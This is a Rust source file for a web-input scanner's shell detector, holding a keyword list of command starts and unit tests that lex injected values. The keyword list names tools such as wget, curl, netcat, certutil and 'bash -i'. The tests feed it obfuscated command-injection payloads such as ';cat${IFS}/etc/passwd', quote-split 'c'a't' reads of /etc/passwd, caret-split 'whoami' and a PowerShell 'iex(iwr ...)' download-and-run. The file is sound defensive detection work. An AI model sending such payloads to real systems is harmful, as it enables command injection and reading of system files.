//! The shell [`Language`].

use super::ShellToken::*;
use super::{ShellToken, lex};
use crate::classes::Classes;
use crate::detect::segment::Sink;
use crate::detect::{Gate, Language};

/// Commands of POSIX shells, cmd.exe and PowerShell.
#[derive(Clone, Copy, Debug)]
pub(crate) struct Shell;

/// The value is an argument; a command can only follow a separator in it.
pub(super) const ARGUMENT: u8 = 0;
/// The value is a command.
pub(super) const COMMAND: u8 = 1;

/// Begins of commands that need no metacharacter. Part of the gate.
pub(super) const SOLO_STARTS: &[&str] = &[
    "whoami",
    "uname",
    "ifconfig",
    "ipconfig",
    "netstat",
    "systeminfo",
    "tasklist",
    "nslookup ",
    "powershell",
    "certutil",
    "bitsadmin",
    "printenv",
    "wget ",
    "curl ",
    "netcat ",
    "sleep ",
    "ping ",
    "cat ",
    "ls -",
    "nc -",
    "rm -",
    "id -",
    "chmod ",
    "traceroute ",
    "python -c",
    "python3 -c",
    "perl -e",
    "php -r",
    "ruby -e",
    "bash -c",
    "bash -i",
    "sh -c",
    "cmd.exe",
    "cmd /",
    "net user",
    "ps aux",
    "ps -",
    "dir c:",
    "type c:",
    "type %",
];

/// What separates commands or opens one amid an argument.
const METACHARACTERS: Classes = Classes::SEMICOLON
    .or(Classes::PIPE)
    .or(Classes::AMP)
    .or(Classes::BACKTICK)
    .or(Classes::DOLLAR)
    .or(Classes::NEWLINE)
    .or(Classes::LT)
    .or(Classes::GT);

/// Those after which a plain word is a command or nothing.
const SEPARATORS: Classes = Classes::SEMICOLON.or(Classes::PIPE).or(Classes::AMP);

impl Language for Shell {
    const NAME: &'static str = "shell";
    const TOKENS: &'static [&'static str] = ShellToken::NAMES;
    const CONTEXTS: &'static [&'static str] = &["argument", "command"];
    const GATE: Gate = Gate {
        classes: METACHARACTERS.or(Classes::SLASH).or(Classes::BACKSLASH),
        words: SOLO_STARTS,
    };
    // The first of these take a metacharacter, a slash, or a begin of `SOLO_STARTS`. What parts words is no command yet: the
    // second take one, or what only shells know.
    const ANCHORS: &'static [u64] = &[
        SOLO.bit()
            | SEP.bit()
            | SEP_S.bit()
            | AMP.bit()
            | AMP_S.bit()
            | NL.bit()
            | SUB_O.bit()
            | TICK_O.bit()
            | TICK_T.bit()
            | PROC.bit()
            | R_OUT.bit()
            | R_IN.bit()
            | HERE.bit()
            | IFS.bit()
            | CP_PATH.bit()
            | CP_GLOB.bit()
            | A_SENS.bit()
            | A_PATH.bit()
            | A_URL.bit()
            | DEVTCP.bit(),
        !(B_CMD.bit()
            | B_START.bit()
            | B_QUOTE.bit()
            | B_WORD.bit()
            | B_ARG.bit()
            | B_TEXT.bit()
            | SEP.bit()
            | SEP_S.bit()
            | AMP.bit()
            | AMP_S.bit()
            | CP_OTHER.bit()
            | END.bit()),
    ];

    // PERF: user agents, tables and queries are full of `;`, `|`, `&` and `/`, and no command follows.
    fn suspects(self, view: &[u8], classes: Classes) -> bool {
        let told = METACHARACTERS.without(SEPARATORS).or(Classes::BACKSLASH);
        classes.intersects(told)
            || lex::may_begin_command(view, 0)
            || classes.intersects(SEPARATORS)
                && memchr::memchr3_iter(b';', b'|', b'&', view)
                    .any(|at| lex::may_begin_command(view, at + 1))
    }

    fn applies(self, context: u8, view: &[u8], classes: Classes) -> bool {
        if context == ARGUMENT {
            return classes.intersects(METACHARACTERS);
        }
        // No command starts with a digit, a letter beyond ASCII or other punctuation than this; what starts with a
        // separator is an argument.
        view.trim_ascii_start()
            .first()
            .is_some_and(|b| b.is_ascii_alphabetic() || b"/.\\'\"$`~%@{([<_".contains(b))
    }

    fn lex<S: Sink>(self, context: u8, view: &[u8], sink: &mut S) -> bool {
        lex::lex(context, view, sink)
    }
}
#[cfg(test)]
mod tests {
    use super::*;
    use crate::detect::cases;
    use crate::detect::segment::Recorder;

    fn lexed(context: u8, text: &str) -> Option<Vec<(&'static str, std::ops::Range<usize>)>> {
        let mut recorder = Recorder::default();
        Shell.lex(context, text.as_bytes(), &mut recorder).then(|| {
            let tokens = recorder.tokens.into_iter();
            tokens.map(|(token, at)| (ShellToken::NAMES[token as usize], at)).collect()
        })
    }

    fn tokens(context: u8, text: &str) -> String {
        let tokens = lexed(context, text).unwrap_or_default();
        let names = tokens.into_iter().map(|(name, _)| name).filter(|&name| name != "END");
        names.collect::<Vec<_>>().join(" ")
    }

    #[test]
    fn cases_hold() {
        cases::hold(Shell);
    }

    #[test]
    fn the_gate_is_a_law() {
        let pieces: &[&[u8]] = &[
            b"a",
            b" ",
            b"ls",
            b"cat",
            b"id",
            b"uname",
            b" -",
            b"c",
            b"(",
            b")",
            b"{",
            b"}",
            b",",
            b"'",
            b"\"",
            b"^",
            b"*",
            b"?",
            b"[",
            b"#",
            b"=",
            b"%",
            b"~",
            b"!",
            b"test",
            b"http:",
            b"etc",
            b"get-content",
            b"sh -c",
            b"1.2.3.4",
            b"\t",
            b"python",
            b"ping",
            b"net user",
            b"+",
            b"dir",
            b"c:",
            b".exe",
            b"%{",
            b"?{",
            b"[x.y]::",
            b"()",
            b"$0",
            b"$env:x",
            b"case ",
            b"0",
        ];
        cases::gate_is_a_law(Shell, pieces);
    }

    #[test]
    fn words_are_evaluated_before_they_are_looked_up() {
        for disguised in [
            "c'a't", "c\"a\"t", "c\\at", "c$@at", "c$1at", "c''at", "'c'at", "\\cat", "c$*at",
            "ca\\\nt",
        ] {
            let text = format!("x;{disguised} /etc/passwd");
            assert_eq!(tokens(ARGUMENT, &text), "B_WORD SEP SPLIT CP_PROBE A_SENS", "{text:?}");
        }
        assert_eq!(tokens(ARGUMENT, "&w^h^oami"), "B_START AMP CARET CP_UNIX");
        assert_eq!(tokens(ARGUMENT, ";cat${IFS}/etc/passwd"), "B_START SEP CP_PROBE IFS A_SENS");
        assert_eq!(tokens(ARGUMENT, ";cat$IFS$9/etc/passwd"), "B_START SEP CP_PROBE IFS A_SENS");
        assert_eq!(tokens(ARGUMENT, ";/???/c?t /e*c/p*"), "B_START SEP CP_GLOB A_SENS");
        assert_eq!(tokens(ARGUMENT, ";{ls,-la}"), "B_START SEP BRACE CP_UNIX A_FLAG");
    }

    #[test]
    fn what_only_powershell_reads() {
        assert_eq!(tokens(ARGUMENT, "x;i`ex 'id'"), "B_WORD SEP SPLIT CP_WIN CP_PROBE");
        assert_eq!(tokens(ARGUMENT, "x;x`id`"), "B_WORD SEP CP_OTHER TICK_T CP_PROBE TICK_C");
        assert_eq!(tokens(ARGUMENT, "1|%{whoami}"), "B_ARG SEP CP_KW CP_UNIX");
        assert_eq!(tokens(ARGUMENT, "x;[A.B]::C"), "B_WORD SEP CP_WIN A_WORD");
        assert_eq!(tokens(ARGUMENT, "x;& ('who'+'ami')"), "B_WORD SEP AMP_S LP SPLIT CP_UNIX RP");
        assert_eq!(tokens(ARGUMENT, "x;$Env:Path"), "B_WORD SEP EXPAND");
        assert_eq!(tokens(ARGUMENT, "x;iex(iwr http://a)"), "B_WORD SEP CP_WIN LP CP_WIN A_URL RP");
    }

    #[test]
    fn a_substitution_knows_what_it_touches() {
        assert_eq!(tokens(ARGUMENT, "`id`"), "B_START TICK_T CP_PROBE TICK_C");
        assert_eq!(tokens(ARGUMENT, "`id`.a.b"), "B_START TICK_T CP_PROBE TICK_C A_FILE");
        assert_eq!(tokens(ARGUMENT, "a@`id`"), "B_ARG TICK_T CP_PROBE TICK_C");
        assert_eq!(
            tokens(ARGUMENT, "`id`/`ls`"),
            "B_START TICK_O CP_PROBE TICK_C A_PATH TICK_O CP_UNIX TICK_C"
        );
        assert_eq!(tokens(ARGUMENT, "a `id` b"), "B_WORD TICK_O CP_PROBE TICK_C A_WORD");
        assert_eq!(tokens(ARGUMENT, "${a:-$(id)}"), "B_START EXPAND SUB_O CP_PROBE SUB_C A_WORD");
        assert_eq!(tokens(ARGUMENT, "${a}$b"), "");
    }

    #[test]
    fn the_language_of_the_shell() {
        assert_eq!(
            tokens(ARGUMENT, "x;f(){ id; };f"),
            "B_WORD SEP CP_KW CP_PROBE SEP_S CP_KW SEP CP_OTHER"
        );
        assert_eq!(
            tokens(ARGUMENT, "x;case a in a)id;;esac"),
            "B_WORD SEP CP_KW A_WORD A_WORDS RP CP_PROBE SEP CP_KW"
        );
        assert_eq!(tokens(ARGUMENT, "x;$0 -c id"), "B_WORD SEP CP_INT A_EVAL A_WORD");
        assert_eq!(tokens(ARGUMENT, "x;$SHELL -c id"), "B_WORD SEP CP_INT A_EVAL A_WORD");
        assert_eq!(tokens(ARGUMENT, "x;/{bin,y}/c[a]t"), "B_WORD SEP SPLIT CP_GLOB");
        assert_eq!(tokens(ARGUMENT, "x&&ping+-c+3"), "B_WORD SEP CP_PROBE A_EVAL A_NUM");
        assert_eq!(tokens(ARGUMENT, "&196;id"), "B_START AMP CP_OTHER SEP CP_PROBE");
    }

    #[test]
    fn the_end_is_told_of_a_command_alone() {
        let ends = |text: &str| {
            lexed(ARGUMENT, text)
                .is_some_and(|tokens| tokens.iter().any(|(name, _)| *name == "END"))
        };
        assert!(ends("x;id") && ends("x;id;") && ends("x;id -u \"") && ends("x$(id)"));
        assert!(!ends("x;y") && !ends("x; a b; c d") && !ends("x;id #y") && !ends("x"));
    }

    #[test]
    fn only_what_stands_like_a_command_is_one() {
        assert_eq!(tokens(ARGUMENT, "ls cat id"), "");
        assert_eq!(tokens(ARGUMENT, "a; b ls; c"), "B_WORD SEP_S CP_OTHER SEP_S CP_OTHER");
        assert_eq!(tokens(ARGUMENT, "?cat=1&id=2"), "B_WORD AMP CP_ASSIGN");
        assert_eq!(tokens(ARGUMENT, "a &lt;b&gt; &#39;c&#39;"), "");
        assert_eq!(
            tokens(ARGUMENT, "x;if [ 1 -eq 1 ]"),
            "B_WORD SEP CP_KW TEST A_NUM A_FLAG A_NUM A_WORD"
        );
        assert_eq!(tokens(ARGUMENT, "x;sudo ls"), "B_WORD SEP CP_ADM CP_UNIX");
        assert_eq!(tokens(ARGUMENT, "x;a=1 ls"), "B_WORD SEP CP_ASSIGN CP_UNIX");
        assert_eq!(tokens(ARGUMENT, "x -> y >= z <b> $5"), "");
        assert_eq!(tokens(COMMAND, "ls -la"), "B_CMD SOLO CP_UNIX A_FLAG");
        assert!(lexed(COMMAND, "Some prose; ls -la").is_none());
    }

    #[test]
    fn substitutions_nest_and_quotes_do_not_hide_them() {
        assert_eq!(
            tokens(ARGUMENT, "x$(echo `id`)y"),
            "B_WORD SUB_O CP_PROBE TICK_O CP_PROBE TICK_C SUB_C A_WORD"
        );
        assert_eq!(
            tokens(ARGUMENT, "a;echo \"$(id)\";ls"),
            "B_WORD SEP CP_PROBE SUB_O CP_PROBE SUB_C SEP CP_UNIX"
        );
        assert_eq!(tokens(ARGUMENT, "a;echo '$(id)'"), "B_WORD SEP CP_PROBE A_STR");
        assert_eq!(tokens(ARGUMENT, "a;sh -c \"ls -la\""), "B_WORD SEP CP_INT A_EVAL A_QCMD");
    }

    #[test]
    fn ranges_are_those_of_the_value() {
        let ranges = lexed(ARGUMENT, "x;c'a't /etc").unwrap_or_default();
        assert_eq!(
            ranges,
            [
                ("B_WORD", 1..1),
                ("SEP", 1..2),
                ("SPLIT", 2..7),
                ("CP_PROBE", 2..7),
                ("A_SENS", 8..12),
                ("END", 12..12)
            ]
        );
    }
}
